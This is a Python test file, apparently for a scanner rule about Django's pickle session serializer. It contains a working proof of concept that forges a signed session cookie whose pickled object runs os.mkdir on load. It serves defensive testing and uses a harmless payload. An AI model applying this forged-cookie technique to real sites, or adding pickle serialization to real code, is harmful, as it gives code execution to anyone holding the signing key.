"""Who knows the key that signs sessions runs code with one (real Django)."""
import os

RULE = "python.pickle-serializer"


class Taken:
    def __reduce__(self):
        return os.mkdir, ("taken",)


def store(program):
    import django.conf
    from django.contrib.sessions.backends import signed_cookies

    if not django.conf.settings.configured:
        names = [name for name in dir(program) if name.isupper()]
        django.conf.settings.configure(SECRET_KEY="of the test", **{name: getattr(program, name) for name in names})
    return signed_cookies.SessionStore


def good(program):
    first = store(program)()
    first["user"] = "ann"
    first.save()
    return store(program)(first.session_key)["user"]


def attack(program):
    from django.contrib.sessions.serializers import PickleSerializer
    from django.core import signing

    salt = "django.contrib.sessions.backends.signed_cookies"
    cookie = signing.dumps({"user": Taken()}, salt=salt, serializer=PickleSerializer, compress=True)
    store(program)(cookie).get("user")
    return os.path.exists("taken") or None
